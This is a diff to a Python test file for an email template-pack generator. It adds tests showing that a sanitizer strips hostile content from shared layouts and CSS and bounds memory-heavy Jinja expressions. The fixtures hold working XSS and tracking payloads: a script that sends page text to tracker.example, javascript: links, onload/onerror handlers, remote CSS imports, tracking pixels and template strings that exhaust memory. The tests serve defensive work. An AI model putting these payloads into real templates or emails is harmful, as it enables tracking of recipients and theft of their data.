@@ -139,6 +139,14 @@ PAYLOADS = [
     "{{ ['x'] * 9000 | map('center', 1000) | join }}",
     "{{ '- ' * 4000 }}x",
     "{% if true %}" * 120 + "x" + "{% endif %}" * 120,
+    # A method call's result is bounded too, and a join or replace is measured before it is
+    # built (the first took 2 GB in 2.4 s when only arguments were checked).
+    "{% set s = 'x' * 10000 %}{{ s.join([s] * 10000) | length }}",
+    "{% set s = 'x' * 10000 %}{{ s.join(([s] * 10000) | map('lower')) | length }}",
+    "{% set s = 'x' * 10000 %}{{ s.replace('x', 'y' * 1000) | length }}",
+    "{% set a = 'x' * 9000 %}{% set a = a + a %}{% set a = a + a %}{{ a | length }}",
+    "{% set l = [1] * 9000 %}{{ (l + l + l) | length }}",
+    "{% set s = 'x' * 9000 %}{{ (s ~ s).upper().join([s, s]) | length }}",
 ]
 
 
@@ -200,3 +208,121 @@ def test_a_missing_parent_pack_points_at_extends(tree, run):
     _, result = _draft(tree, run, {"pack.yaml": "name: x\nextends: ./nowhere\n"})
     assert result.stderr.splitlines()[0] == (
         "pack/pack.yaml:2: extends: is not a template pack (no pack.yaml in it)")
+
+
+# A shared pack's layout and CSS are untrusted like its templates: each line of HOSTILE is
+# something no draft may carry (the issue's tracking pixel, scripts, event handlers, remote
+# styles), and MARKERS what would show that one got through.
+HOSTILE_LAYOUT = """\
+<!DOCTYPE html>
+<html lang="{{ lang }}">
+<head><title>{{ subject }}</title>
+<style>{{ css }}</style>
+<link rel="stylesheet" href="https://tracker.example/s.css">
+<base href="https://tracker.example/">
+<meta http-equiv="refresh" content="0; url=https://tracker.example/">
+</head>
+<body onload="steal()" style="background-image: url(https://tracker.example/b.png)">
+<img src="https://tracker.example/p.gif?to={{ recipient.email|urlencode }}">
+<img src="//tracker.example/p2.gif"><img srcset="https://tracker.example/p3.gif 1x">
+<script>fetch('https://tracker.example/' + document.body.innerText)</script>
+<a href="javascript:alert(1)" onclick="steal()">click</a><a href=" java&#10;script:x">x</a>
+<iframe src="https://tracker.example/f"></iframe><form action="https://tracker.example/"></form>
+<svg onload="steal()"><image href="https://tracker.example/s.png"/></svg>
+<table background="https://tracker.example/t.png"><tr><td>{{ body }}</td></tr></table>
+<p style="behavior: url(x.htc); color: red">styled</p>
+<p style="background: u\\72l(https://tracker.example/escaped.png)">escaped</p>
+<noscript><p title="</noscript><img src=x onerror=steal()>"></p></noscript>
+</body></html>
+"""
+HOSTILE_CSS = """\
+@import url(https://tracker.example/more.css);
+@import "https://tracker.example/quoted.css";
+p { color: #111; background: url(https://tracker.example/bg.png); }
+@font-face { font-family: x; src: url(https://tracker.example/font.woff); }
+.note { background-image: image-set("https://tracker.example/set.png" 1x); }
+</style><script>alert(2)</script><style>
+"""
+MARKERS = ["tracker.example", "<script", "javascript", "onload", "onclick", "onerror",
+           "@import", "<iframe", "<form", "<svg", "<link", "<base", "refresh", "srcset",
+           "behavior", "url("]
+
+
+def test_a_hostile_layout_and_css_never_reach_a_draft(tree, run):
+    root, result = _draft(tree, run, {"pack.yaml": "name: x\nextends: default\n",
+                                      "layout.html.j2": HOSTILE_LAYOUT,
+                                      "style.css": HOSTILE_CSS})
+    assert result.exit_code == 0, result.output
+    drafts = sorted((root / "out/acme").rglob("*.*"))
+    assert drafts
+    for path in drafts:
+        text = path.read_text()
+        if path.suffix == ".eml":  # the HTML part may be quoted-printable or base64
+            import email
+            from email import policy
+            message = email.message_from_string(text, policy=policy.default)
+            text = message.get_body(("html",)).get_content()
+        for marker in MARKERS:
+            assert marker not in text.lower(), f"{marker} in {path.name}"
+    html = (root / "out/acme/thank-you/priya-raman.html").read_text()
+    assert "event sourcing" in html and "<table" in html and 'style="color: red' in html
+
+
+def test_packs_check_names_what_it_removed_from_the_layout_and_css(tree, run):
+    tree({"pack/pack.yaml": "name: x\nextends: default\n",
+          "pack/layout.html.j2": HOSTILE_LAYOUT, "pack/style.css": HOSTILE_CSS})
+    result = run("packs", "check", "./pack")
+    assert result.exit_code == 1
+    [problem] = result.stderr.splitlines()
+    assert problem.startswith("thank-you (standard, on time) to Priya Raman: pack/layout.html.j2"
+                              " or pack/style.css writes what an email may not hold")
+    for removed in ("<script> and its content", "src='https://tracker.example/p.gif?…' on <img>",
+                    "onclick='steal()' on <a>", "href='javascript:alert(1)' on <a>",
+                    "@import url(https://tracker.example/more.css); in the CSS",
+                    "<iframe> and its content"):
+        assert removed in problem
+    assert result.output.splitlines()[-1] == "pack x: 29 drafts made, 1 problem."
+
+
+def test_a_clean_layout_keeps_what_email_needs(tree, run):
+    layout = ('<!DOCTYPE html><html lang="{{ lang }}"><head><title>{{ subject }}</title>'
+              "<style>{{ css }}</style></head><body><table role=\"presentation\" "
+              'cellpadding="0"><tr><td colspan="2" style="padding: 8px">{{ body }}</td></tr>'
+              '</table><p><a href="tel:+15550100">call</a> <a href="mailto:j@example.com">'
+              'mail</a> <img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"></p>'
+              "</body></html>")
+    css = "@media (max-width: 600px) { td { padding: 2px !important; } }\np { color: #222; }\n"
+    root, result = _draft(tree, run, {"pack.yaml": "name: x\nextends: default\n",
+                                      "layout.html.j2": layout, "style.css": css})
+    assert result.exit_code == 0, result.output
+    html = (root / "out/acme/thank-you/priya-raman.html").read_text()
+    for kept in ('<html lang="en">', '<table role="presentation" cellpadding="0">',
+                 '<td colspan="2" style="padding: 8px">', 'href="tel:+15550100"',
+                 'href="mailto:j@example.com"', 'src="data:image/png;base64,iVBORw0KGgo="',
+                 "@media (max-width: 600px)", 'style="color: #222;"'):
+        assert kept in html
+    assert run("packs", "check", "./pack", "-q").exit_code == 0
+
+
+def test_a_huge_panel_is_not_blamed_on_the_pack(tmp_path):
+    # 1,500 interviewers: the contact's note names them all, 40,000 characters that are the
+    # user's data, not the pack's doing. The sandbox's limits grow with the data.
+    from datetime import date
+
+    from conftest import write_tree
+
+    from generator.compose.inline import make_inliner
+    from generator.compose.recipients import plan_drafts
+    from generator.compose.render import Renderer
+    from generator.input.models import KINDS
+    from generator.input.sources import load_applications
+
+    people = "".join(f"- name: Alexandra-Konstantina{i} Papadopoulou-Vasilakis{i}\n"
+                     f"  email: p{i}@acme.example\n" for i in range(1500))
+    write_tree(tmp_path, profile({"acme/interviewers.yaml": people}))
+    [app] = load_applications(tmp_path / "profiles")
+    pack = load_pack("default")
+    specs, _ = plan_drafts(app, pack, KINDS, date(2026, 11, 20))
+    [to_contact] = [s for s in specs if s.kind == "thank-you" and s.recipient.name == "Dana Lee"]
+    draft = Renderer(pack, make_inliner("css-inline")).render(to_contact, date(2026, 11, 20))
+    assert "Alexandra-Konstantina1499" in draft.text and len(draft.text) > 20_000
